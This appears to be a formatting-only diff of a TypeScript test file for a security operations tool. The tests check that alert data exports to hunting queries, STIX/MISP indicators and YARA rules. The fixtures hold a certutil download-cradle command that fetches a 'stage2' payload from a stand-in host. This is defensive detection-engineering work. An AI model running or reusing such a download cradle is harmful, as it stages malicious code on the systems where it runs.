@@ -17,36 +17,86 @@ import { CORPUS_DIR } from '../helpers/corpus';
 import { openTestDatabase, type TestDatabase } from '../helpers/database';
 
 // A public LOLBAS/ART command line: certutil downloading a payload (T1105).
-const COMMAND = 'certutil.exe -urlcache -split -f https://dl.badcdn-example.net/stage2.bin C:\\Users\\jdoe\\AppData\\Local\\Temp\\stage2.exe';
+const COMMAND =
+  'certutil.exe -urlcache -split -f https://dl.badcdn-example.net/stage2.bin C:\\Users\\jdoe\\AppData\\Local\\Temp\\stage2.exe';
 
 let db: TestDatabase;
-const ids = { approved: `alert:edr:content-${process.pid}-a`, pending: `alert:edr:content-${process.pid}-p`, benign: `alert:edr:content-${process.pid}-b` };
+const ids = {
+  approved: `alert:edr:content-${process.pid}-a`,
+  pending: `alert:edr:content-${process.pid}-p`,
+  benign: `alert:edr:content-${process.pid}-b`,
+};
 
 beforeAll(async () => {
   db = await openTestDatabase();
   for (const [key, id] of Object.entries(ids)) {
     const alert = parseAlert({
-      source: 'edr', sourceId: id.split(':')[2], time: '2026-12-01T10:00:00Z', title: 'certutil download on ws-0142', severity: 'high', attackTechniques: ['T1105'],
+      source: 'edr',
+      sourceId: id.split(':')[2],
+      time: '2026-12-01T10:00:00Z',
+      title: 'certutil download on ws-0142',
+      severity: 'high',
+      attackTechniques: ['T1105'],
       observables: {
-        hosts: [{ hostname: 'ws-0142', ip: '10.20.30.40' }], users: [{ name: 'jdoe' }],
-        processes: [{ path: 'C:\\Windows\\System32\\certutil.exe', commandLine: COMMAND, user: 'CORP\\jdoe', parents: [{ path: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE' }] }],
-        urls: ['https://dl.badcdn-example.net/stage2.bin'], ips: ['203.0.113.9'],
+        hosts: [{ hostname: 'ws-0142', ip: '10.20.30.40' }],
+        users: [{ name: 'jdoe' }],
+        processes: [
+          {
+            path: 'C:\\Windows\\System32\\certutil.exe',
+            commandLine: COMMAND,
+            user: 'CORP\\jdoe',
+            parents: [{ path: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE' }],
+          },
+        ],
+        urls: ['https://dl.badcdn-example.net/stage2.bin'],
+        ips: ['203.0.113.9'],
       },
     });
     await upsertAlert(db.pool, id, alert, extractObservables(alert));
-    if (key === 'approved') await appendAudit(db.pool, { workflowId: id, step: 'decision:1', action: 'approve', actor: 'alice', reason: 'confirmed download cradle' });
+    if (key === 'approved')
+      await appendAudit(db.pool, {
+        workflowId: id,
+        step: 'decision:1',
+        action: 'approve',
+        actor: 'alice',
+        reason: 'confirmed download cradle',
+      });
   }
-  await linkEvidence(db.pool, ids.approved, await storeEvidence(db.pool, { kind: 'sample', mediaType: 'application/vnd.microsoft.portable-executable', name: 'stage2.exe', content: implantSample() }));
+  await linkEvidence(
+    db.pool,
+    ids.approved,
+    await storeEvidence(db.pool, {
+      kind: 'sample',
+      mediaType: 'application/vnd.microsoft.portable-executable',
+      name: 'stage2.exe',
+      content: implantSample(),
+    }),
+  );
   // A file triage judged benign that holds one of the implant's strings: that string is no longer distinctive.
   await db.pool.query("UPDATE alerts SET verdict = 'benign' WHERE workflow_id = $1", [ids.benign]);
-  await linkEvidence(db.pool, ids.benign, await storeEvidence(db.pool, { kind: 'file', mediaType: 'text/plain', name: 'proxy.log', content: Buffer.from(`GET ${IMPLANT_STRINGS.url}42 200\n`) }));
+  await linkEvidence(
+    db.pool,
+    ids.benign,
+    await storeEvidence(db.pool, {
+      kind: 'file',
+      mediaType: 'text/plain',
+      name: 'proxy.log',
+      content: Buffer.from(`GET ${IMPLANT_STRINGS.url}42 200\n`),
+    }),
+  );
 });
 afterAll(() => db.close());
 
 async function cli(args: string[]) {
-  let out = '', err = '';
+  let out = '',
+    err = '';
   const code = await run(args, {
-    stdout: (s) => { out += s; }, stderr: (s) => { err += s; },
+    stdout: (s) => {
+      out += s;
+    },
+    stderr: (s) => {
+      err += s;
+    },
     env: { DATABASE_URL: db.url, AUTOSOC_API_URL: 'https://autosoc.example.org', AUTOSOC_CORPUS: CORPUS_DIR, PATH: process.env.PATH },
   });
   return { code, out, err };
@@ -69,29 +119,39 @@ describe('autosoc content export', () => {
     expect(files.map((f) => readFileSync(f, 'utf8')).join('\n')).not.toMatch(/jdoe|ws-0142|10\.20\.30\.40/);
   });
 
-  it.each([['spl', /CommandLine="\*-urlcache\*"|CommandLine="\*urlcache/i], ['esql', /process\.command_line/], ['kql', /DeviceProcessEvents/]])('writes %s hunting queries', async (format, expected) => {
-    const dir = mkdtempSync(join(tmpdir(), `content-${format}-`));
-    const r = await cli(['--json', 'content', 'export', ids.approved, '--format', format, '--dir', dir]);
-    expect(r.err).toBe('');
-    expect(r.code).toBe(0);
-    const { files } = JSON.parse(r.out) as { files: string[] };
-    expect(files.length).toBeGreaterThanOrEqual(3);
-    expect(files.map((f) => readFileSync(f, 'utf8')).join('\n')).toMatch(expected);
-  }, 120_000);
+  it.each([
+    ['spl', /CommandLine="\*-urlcache\*"|CommandLine="\*urlcache/i],
+    ['esql', /process\.command_line/],
+    ['kql', /DeviceProcessEvents/],
+  ])(
+    'writes %s hunting queries',
+    async (format, expected) => {
+      const dir = mkdtempSync(join(tmpdir(), `content-${format}-`));
+      const r = await cli(['--json', 'content', 'export', ids.approved, '--format', format, '--dir', dir]);
+      expect(r.err).toBe('');
+      expect(r.code).toBe(0);
+      const { files } = JSON.parse(r.out) as { files: string[] };
+      expect(files.length).toBeGreaterThanOrEqual(3);
+      expect(files.map((f) => readFileSync(f, 'utf8')).join('\n')).toMatch(expected);
+    },
+    120_000,
+  );
 
   it('writes STIX and MISP files', async () => {
     const dir = mkdtempSync(join(tmpdir(), 'content-share-'));
-    for (const format of ['stix', 'misp']) expect((await cli(['content', 'export', ids.approved, '--format', format, '--dir', dir])).code).toBe(0);
+    for (const format of ['stix', 'misp'])
+      expect((await cli(['content', 'export', ids.approved, '--format', format, '--dir', dir])).code).toBe(0);
     const stem = ids.approved.replace(/[^A-Za-z0-9_.-]+/g, '_');
     const bundle = JSON.parse(readFileSync(join(dir, `${stem}.stix.json`), 'utf8'));
-    expect(bundle.objects.filter((o: { type: string }) => o.type === 'indicator').map((o: { pattern: string }) => o.pattern))
-      .toEqual(expect.arrayContaining(["[domain-name:value = 'dl.badcdn-example.net']", "[ipv4-addr:value = '203.0.113.9']"]));
+    expect(bundle.objects.filter((o: { type: string }) => o.type === 'indicator').map((o: { pattern: string }) => o.pattern)).toEqual(
+      expect.arrayContaining(["[domain-name:value = 'dl.badcdn-example.net']", "[ipv4-addr:value = '203.0.113.9']"]),
+    );
     const event = JSON.parse(readFileSync(join(dir, `${stem}.misp.json`), 'utf8'));
     expect(event.Event.Tag).toContainEqual({ name: 'tlp:amber' });
     expect(event.Event.info).not.toMatch(/ws-0142/);
   });
 
-  it('writes YARA rules from the alert\'s samples, checked against the corpus and benign evidence', async () => {
+  it("writes YARA rules from the alert's samples, checked against the corpus and benign evidence", async () => {
     const dir = mkdtempSync(join(tmpdir(), 'content-yara-'));
     const r = await cli(['--json', 'content', 'export', ids.approved, '--format', 'yara', '--dir', dir]);
     expect(r.err).toBe('');
